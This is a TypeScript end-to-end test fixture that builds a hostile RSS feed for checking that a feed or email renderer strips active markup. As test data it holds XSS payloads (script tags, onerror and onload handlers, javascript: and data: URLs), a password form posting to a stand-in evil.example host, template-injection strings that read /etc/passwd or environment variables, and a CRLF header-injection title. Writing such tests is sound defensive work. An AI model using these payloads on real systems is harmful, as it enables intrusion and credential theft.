// The hostile RSS feed of the end-to-end test: one item whose body carries every kind of active
// markup a stranger's feed can hold, beside reading markup that must survive, and items whose
// titles and bodies carry template-injection text that must arrive as plain text.

export const SAFE_LINK = 'https://safe.example/report/cotton-2026';
export const SAFE_IMAGE = 'https://img.example/mill-floor.jpg';
export const PARAGRAPH = 'Spinning mills in the coastal provinces reported record winter orders, the regional cotton association said on Monday.';
export const MARKER_SECRET = 'marker-secret-5d21c8e0';
// A CR LF in the title is the classic header-injection shape: "Subject: …\r\nBcc: …".
export const HEADER_TITLE = 'Mills report record orders\r\nBcc: x@example.com';

/** Template syntax of every engine we could plausibly run, as literal text in article data. */
export const INJECTIONS = [
  '<mj-include path="/etc/passwd"/>',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the attack
  '${process.env.X}',
  '<%= 7*7 %>',
  '</mj-text><mj-button href="https://evil.example">',
] as const;

/** Every active construct of acceptance 3; none may reach a reader as markup. */
export const HOSTILE_BODY = [
  // A tracking pixel before the real image: it must neither survive nor become the lead image.
  '<img src="https://tracker.example/open.gif?u=42" width="1" height="1" alt="">',
  `<p>${PARAGRAPH}</p>`,
  `<img src="${SAFE_IMAGE}" width="640" height="360" alt="Mill floor">`,
  '<script>document.title = "SCRIPT-RAN"</script>',
  '<img src="x" onerror="alert(\'ONERROR-RAN\')">',
  '<p>Links: <a href="javascript:alert(\'JS-LINK\')">first</a>, <a href=" JaVaScRiPt:alert(1)">second</a>,',
  ' <a href="vbscript:msgbox(\'VB-LINK\')">third</a> and <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">fourth</a>.</p>',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="inline">',
  '<iframe src="https://evil.example/frame" width="600" height="400"></iframe>',
  '<style>body { display: none } .card { background: url(https://evil.example/css) }</style>',
  '<p style="position:fixed;top:0;left:0;width:100%">Warehouse stocks fell for a fourth consecutive week as buyers covered first-quarter needs.</p>',
  '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>',
  '<svg onload="alert(\'SVG-RAN\')"><circle r="5"/></svg>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  `<p>Analysts said the full <a href="${SAFE_LINK}">association report</a> expects prices to stay firm until the new crop arrives.</p>`,
].join('\n');

const escapeXml = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
/** Text as RSS carries it: titles and descriptions are HTML, so literal "<" is escaped twice. */
const textAsRss = (s: string) => escapeXml(escapeXml(s)).replace(/\r/g, '&#13;').replace(/\n/g, '&#10;');
const cdata = (html: string) => `<![CDATA[${html}]]>`;

export interface FeedItem {
  guid: string;
  title: string;
  link: string;
  pubDate: string;
  /** content:encoded (HTML) */
  html: string;
  /** description (HTML), kept short like a teaser */
  description: string;
}

export const ITEMS: FeedItem[] = [
  {
    guid: 'hostile-markup',
    title: HEADER_TITLE,
    link: 'https://news.example/mills-record-orders',
    pubDate: 'Mon, 23 Nov 2026 11:00:00 GMT',
    html: HOSTILE_BODY,
    description: '<p>Mills report record orders <script>alert(1)</script><img src=x onerror=alert(1)></p>',
  },
  ...INJECTIONS.map((inj, i) => {
    const topics = ['yarn exports', 'polyester margins', 'port congestion', 'dye prices', 'loom orders'];
    const topic = topics[i]!;
    const text = `Traders discussing ${topic} quoted the phrase ${inj} in a note to clients on Monday. The note said ${topic} would decide the market direction this quarter.`;
    return {
      guid: `injection-${i}`,
      title: `Injection ${i}: ${inj} and ${topic}`,
      link: `https://news.example/injection-${i}`,
      pubDate: `Mon, 23 Nov 2026 ${String(9 - i).padStart(2, '0')}:00:00 GMT`,
      html: `<p>${escapeXml(text)}</p>`,
      description: `<p>${escapeXml(text.split('. ')[0]!)}.</p>`,
    };
  }),
];

export function hostileRss(items: FeedItem[] = ITEMS): string {
  const xml = items
    .map(
      (i) =>
        `<item><title>${textAsRss(i.title)}</title><link>${i.link}</link><guid isPermaLink="false">${i.guid}</guid>` +
        `<pubDate>${i.pubDate}</pubDate><description>${cdata(i.description)}</description>` +
        `<content:encoded>${cdata(i.html)}</content:encoded></item>`,
    )
    .join('\n');
  return (
    '<?xml version="1.0" encoding="utf-8"?>\n' +
    '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>' +
    `<title>Hostile wire</title><link>https://news.example/</link><description>e2e</description>\n${xml}\n</channel></rss>`
  );
}
